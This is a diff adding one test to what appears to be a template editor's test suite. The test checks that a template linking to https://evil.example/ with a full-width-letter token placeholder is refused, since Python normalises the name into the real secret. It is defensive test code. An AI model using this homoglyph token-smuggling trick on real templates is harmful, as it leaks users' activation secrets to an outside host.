@@ -103,6 +103,12 @@ def test_a_link_that_is_a_secret_stays_where_it_was(app, people, change):
         editing.save(app, people.organiser, "activate", change(SHIPPED["activate"]), 0)
 
 
+def test_a_name_that_python_takes_for_another_does_not_carry_the_secret_elsewhere(app, people):
+    elsewhere = SHIPPED["activate"].replace("=> ", "=> 看 | https://evil.example/{{ ｔｏｋｅｎ }}\n=> ")
+    with refused("text", "不能用的寫法"):
+        editing.save(app, people.organiser, "activate", elsewhere, 0)
+
+
 def test_the_words_on_such_a_link_may_be_others(app, people):
     editing.save(app, people.organiser, "activate", SHIPPED["activate"].replace("=> 開通帳號", "=> 立即開通"), 0)
 
